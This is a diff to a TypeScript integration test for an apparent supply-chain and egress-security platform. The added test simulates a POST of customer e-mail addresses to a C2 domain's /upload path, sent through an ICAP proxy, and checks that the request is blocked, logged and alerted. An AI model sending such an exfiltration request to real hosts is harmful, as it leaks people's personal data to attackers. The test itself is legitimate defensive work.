@@ -6,6 +6,8 @@
 // teams, the incident-notification questionnaire sent through the portal, the C2 domains on the
 // blocklist export, the SOAR webhook received with a valid signature), and the audit trail and the
 // risk register have it. The time from the import to the C2 domains in the blocklist is printed.
+// Then a POST of customer e-mails to a C2 domain, asked of the ICAP service as a proxy would, is
+// blocked with the explanation page, recorded as an egress event and raised as an egress alert.
 import assert from 'node:assert/strict';
 import { createHash, createHmac } from 'node:crypto';
 import { createServer, type Server } from 'node:http';
@@ -16,6 +18,8 @@ import { loadDemo } from '../../src/modules/vendors/demo.js';
 import { loadDemoSboms } from '../../src/modules/sboms/sboms.demo.js';
 import { systemContext } from '../../src/platform/context.js';
 import { describeEachEngine } from '../../src/platform/db/test-support/engines.js';
+import { createIcap } from '../../src/app/thirdwatch.js';
+import { IcapTestClient, reqmod } from '../support/icap-client.js';
 import { createWorker, startTestServer, type TestServer } from '../support/server.js';
 import { startTestSmtp, type TestSmtp } from '../support/smtp.js';
 
@@ -147,5 +151,33 @@ describeEachEngine('the 3CX drill end to end', ({ engine }) => {
     assert.ok([...actions].some((a) => a.startsWith('egress') || a.startsWith('blocklist')), `a blocklist event in the audit: ${[...actions].join(', ')}`);
     const risks = await get<{ items: Array<{ vendor?: { id: string } | null; vendorId?: string | null }> }>(`/api/v1/risks?vendorId=${vendor.id}`);
     assert.ok(risks.items.length > 0, 'the risk register has a risk for 3CX');
+  });
+
+  test('later, customer e-mails POSTed to a C2 domain are blocked at the proxy, recorded and alerted', async () => {
+    const icap = createIcap(server.tw, { port: 0, eventIntervalMs: 20 });
+    const url = await icap.start();
+    const client = await IcapTestClient.connect(Number(/:(\d+)\//.exec(url)![1]));
+    try {
+      await icap.threats.reload();
+      const customers = JSON.stringify({ customers: ['ana', 'ben', 'cy', 'dee', 'eve', 'fay'].map((n) => ({ email: `${n}@customer-mail.example` })) });
+      client.write(reqmod({ url: `http://${C2[0]}/upload`, body: customers, headers: { 'Content-Type': 'application/json' } }).head);
+      const answer = await client.read();
+      assert.equal(answer.status, 200, 'a final answer carrying the block page');
+      const page = answer.body?.toString() ?? '';
+      // The playbook put it on the blocklist, and it is a threat indicator: either reason blocks it.
+      const domain = C2[0].replace(/\./g, '\\.');
+      assert.match(page, new RegExp(`threat indicator ${domain}|egress blocklist \\(blocked domain ${domain}\\)`));
+      assert.doesNotMatch(page, /customer-mail\.example/, 'the page never repeats the data');
+      const reference = /<code>([0-9a-f-]{36})<\/code>/.exec(page)?.[1];
+      assert.ok(reference, page);
+      await icap.recorder.flush();
+      const event = await server.tw.services.egressIngest.get(reference);
+      assert.deepEqual([event.decision, event.host, event.source, event.dataClasses], ['block', C2[0], 'icap', ['email']]);
+      const alerts = await get<{ items: Array<{ rule: string; destination: string }> }>('/api/v1/egress/alerts?rule=indicator-contact');
+      assert.ok(alerts.items.some((a) => a.destination === C2[0]), JSON.stringify(alerts.items));
+    } finally {
+      client.close();
+      await icap.close();
+    }
   });
 });
